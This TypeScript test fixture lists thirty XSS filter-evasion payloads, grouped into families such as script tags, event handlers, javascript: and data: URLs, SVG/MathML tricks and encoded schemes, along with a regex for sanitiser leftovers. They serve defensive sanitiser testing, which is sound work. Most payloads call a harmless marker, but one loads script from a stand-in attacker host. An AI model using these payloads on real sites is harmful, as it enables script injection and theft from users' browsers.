/**
 * Script-injection payloads (OWASP XSS Filter Evasion Cheat Sheet families): script tags, event
 * handlers, javascript:/data: URLs, SVG and MathML tricks, broken markup, encoded schemes. Every
 * HTML input of the product is tested against all of them (schemas, server and e2e tests). Each
 * payload, if it ran, would call `window.__xss(n)`, so a browser test can tell that none ran.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>window.__xss(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.__xss(2)">',
  '<img src=x oNeRrOr=window.__xss(3)>',
  '<svg onload="window.__xss(4)"></svg>',
  '<svg><script>window.__xss(5)</script></svg>',
  '<svg><animate onbegin="window.__xss(6)" attributeName="x" dur="1s"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss(7)"></style></mglyph></table></mtext></math>',
  '<a href="javascript:window.__xss(8)">click</a>',
  '<a href="JaVaScRiPt:window.__xss(9)">click</a>',
  '<a href="&#106;avascript:window.__xss(10)">click</a>',
  '<a href="java\tscript:window.__xss(11)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MoMTIpPC9zY3JpcHQ+">click</a>',
  '<iframe src="javascript:window.__xss(13)"></iframe>',
  '<iframe srcdoc="<script>parent.__xss(14)</script>"></iframe>',
  '<object data="javascript:window.__xss(15)"></object>',
  '<embed src="javascript:window.__xss(16)">',
  '<body onload="window.__xss(17)">',
  '<details open ontoggle="window.__xss(18)">',
  '<div style="background:url(javascript:window.__xss(19))">x</div>',
  '<input autofocus onfocus="window.__xss(20)">',
  '<form action="javascript:window.__xss(21)"><button>go</button></form>',
  '<p title="</p><img src=x onerror=window.__xss(22)>">text</p>',
  '<<script>window.__xss(23);//<</script>',
  '<img """><script>window.__xss(24)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss(25)>"></noscript>',
  '<style>@import "javascript:window.__xss(26)";</style>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss(27)">',
  '<base href="javascript:window.__xss(28)//">',
  '<video><source onerror="window.__xss(29)"></video>',
];

/** Markup that must never come out of a sanitiser (case-insensitive). */
export const XSS_LEFTOVERS = /<script|<iframe|<object|<embed|<svg|<math|<style|<meta|<base|<form|<input|\son[a-z]+\s*=|javascript:|data:text|srcdoc/i;
